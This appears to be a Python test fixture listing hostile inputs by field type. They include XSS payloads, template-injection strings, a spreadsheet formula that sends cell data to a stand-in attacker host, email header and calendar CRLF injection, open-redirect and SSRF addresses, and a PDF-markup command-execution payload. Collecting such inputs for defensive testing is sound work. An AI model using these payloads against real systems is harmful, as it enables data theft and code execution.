"""Inputs that have broken systems of this kind, by kind of field. Facts; used as they are."""

TEXT = {
    "script": "<script>alert(document.domain)</script>",
    "leaves a script": "</script><img src=x onerror=alert(1)>",
    "leaves an attribute": "\"'><img src=x onerror=alert(1)>",
    "address": "evil.example/login",
    "placeholder": "{{ settings.SECRET_KEY }}{% debug %}{email}",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"ok")',
    "telephone": "+44 7700 900123",
    "quotes": 'O"Brien; Ann, \\ back',
    "calendar lines": "Ann\r\nBEGIN:VALARM\r\nATTACH:https://evil.example",
    "header lines": "Ann\r\nBcc: everybody@evil.example",
    "direction marks": "\u202egnp.exe\u2066 Ann",
    "nul": "a\u0000b",
    "stacked marks": "Z" + "\u0301" * 20,
    "one letter": "X",
    "markdown": "[x](java\nscript:alert(1)) ![t](https://tracker.example/p.gif)",
    "pdf markup": (
        "<font color=\"[[[getattr(pow,Word('__globals__'))['os'].system('touch pwned')...]]]\">x</font>"
    ),
    "half markup": "Anna <b> & Co < 3",
    "attributes": "{event.__init__.__code__.co_filename} {0} {unknown} unbalanced {",
}
EMAIL = [
    '"<script>alert(1)</script>"@example.org',
    "ann+tag@example.org",
    "ann@example.org\nBcc: x@evil.example",
]
URL = ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "http://[::ffff:127.0.0.1]:6379/"]
NUMBER = ["-1", "0", "1.5", "99999999999999999999", "\uff11\uff12", "1e3"]
NEXT = [
    "//evil.example",
    "/\\evil.example",
    "https:evil.example",
    "\x08//evil.example",
    "javascript:alert(1)",
]
FILE_NAME = "\"'><img src=x onerror=alert(1)>.pdf"

# One that tries every way out of a place in a page, for what is planted straight into the database.
PLANTED = (
    "\"'><script>alert(1)</script><img src=x onerror=alert(1)></script> onfocus=alert(1) {{ 7|add:7 }}",
    "\"'><img src=x onerror=alert(1)>",
    "\"'><b onclick=a>",
)
